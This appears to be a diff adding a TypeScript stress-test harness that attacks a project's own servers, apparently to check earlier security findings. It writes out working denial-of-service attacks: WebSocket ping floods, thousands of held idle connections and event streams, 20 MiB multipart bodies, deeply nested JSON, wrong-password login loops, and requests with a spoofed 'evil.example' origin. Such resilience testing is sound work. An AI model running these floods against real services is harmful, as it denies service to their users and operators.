@@ -1,0 +1,96 @@
+// What one cheap client does to the servers, each as long as it is let. Forked by hostile.ts with a name and the servers'
+// addresses; ends when its parent does.
+import { request } from 'node:http';
+import { connect, type Socket } from 'node:net';
+import WebSocket from 'ws';
+
+export interface Targets {
+  readonly platform: string;
+  readonly gateway: string;
+  readonly gatewaySocket: string;
+  readonly viewer: string;
+}
+
+const MIB = 1 << 20;
+const EVIL = 'https://evil.example';
+
+/** Over and over, so many at a time; whatever the server does to it is its own affair. */
+function again(parallel: number, attempt: () => Promise<unknown>): void {
+  for (let index = 0; index < parallel; index++) {
+    void (async () => {
+      for (;;) await attempt().catch(() => new Promise((resolve) => setTimeout(resolve, 20)));
+    })();
+  }
+}
+
+function send(url: string, headers: Record<string, string>, body: string | Buffer = ''): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const sent = request(url, { method: 'POST', headers, agent: false }, (answer) => {
+      answer.resume().on('end', resolve).on('error', reject);
+    });
+    sent.on('error', reject).end(body);
+  });
+}
+
+const json = { 'content-type': 'application/json' };
+
+function hold(url: string, first = ''): Promise<void> {
+  const { port, hostname } = new URL(url);
+  return new Promise((_, reject) => {
+    const socket: Socket = connect(Number(port), hostname, () => socket.write(first));
+    socket.on('error', () => {}).on('close', () => reject(new Error('closed')));
+    socket.resume();
+  });
+}
+
+/** By the finding that each comes from. */
+export const ATTACKS: Readonly<Record<string, (targets: Targets) => void | Promise<void>>> = {
+  'pings without reading': ({ gatewaySocket }) =>
+    again(50, () => {
+      const socket = new WebSocket(gatewaySocket);
+      return new Promise((_, reject) => {
+        const flood = () => {
+          for (let count = 0; count < 200 && socket.readyState === WebSocket.OPEN; count++) socket.ping('x');
+          if (socket.readyState === WebSocket.OPEN) setImmediate(flood);
+        };
+        socket.on('open', () => {
+          socket.pause();
+          flood();
+        });
+        socket.on('error', reject).on('close', () => reject(new Error('closed')));
+      });
+    }),
+  'idle connections': ({ platform, viewer, gateway }) => {
+    for (const url of [platform, viewer, gateway]) again(1_500, () => hold(url));
+  },
+  'forms of many parts': ({ viewer }) => {
+    const part = '--b\r\nContent-Disposition: form-data; name="p"\r\n\r\n\r\n';
+    const body = Buffer.from(part.repeat(Math.floor((20 * MIB) / part.length)));
+    const type = { 'content-type': 'multipart/form-data; boundary=b' };
+    again(2, () => send(`${viewer}/screenshot-paste`, { ...type, origin: EVIL }, body));
+    again(2, () => send(`${viewer}/screenshot-paste`, type, body));
+  },
+  'large JSON': ({ platform }) => {
+    const deep = '['.repeat(MIB / 2) + ']'.repeat(MIB / 2);
+    const keys = `{${Array.from({ length: 40_000 }, (_, index) => `"\\u0061${index}":0`).join(',')}}`;
+    again(3, () => send(`${platform}/auth/intents`, { ...json, origin: EVIL }, deep));
+    again(3, () => send(`${platform}/auth/intents`, { ...json, origin: EVIL }, keys));
+  },
+  'event streams': async ({ platform }) => {
+    const created = await fetch(`${platform}/auth/intents`, { method: 'POST' });
+    const { updates_url: url } = (await created.json()) as { updates_url: string };
+    const { pathname, host } = new URL(url);
+    const asks = `GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\nAccept: text/event-stream\r\n\r\n`;
+    again(4_000, () => hold(platform, asks));
+  },
+  'intents of pages': ({ platform }) =>
+    again(8, () => send(`${platform}/auth/intents`, { ...json, origin: EVIL }, '{}')),
+  'wrong passwords': ({ platform }) =>
+    again(4, () => send(`${platform}/auth/login`, json, JSON.stringify({ name: 'demo', password: 'wrong' }))),
+};
+
+if (import.meta.main) {
+  const [name = '', targets = '{}'] = process.argv.slice(2);
+  process.on('disconnect', () => process.exit());
+  await ATTACKS[name]?.(JSON.parse(targets) as Targets);
+}
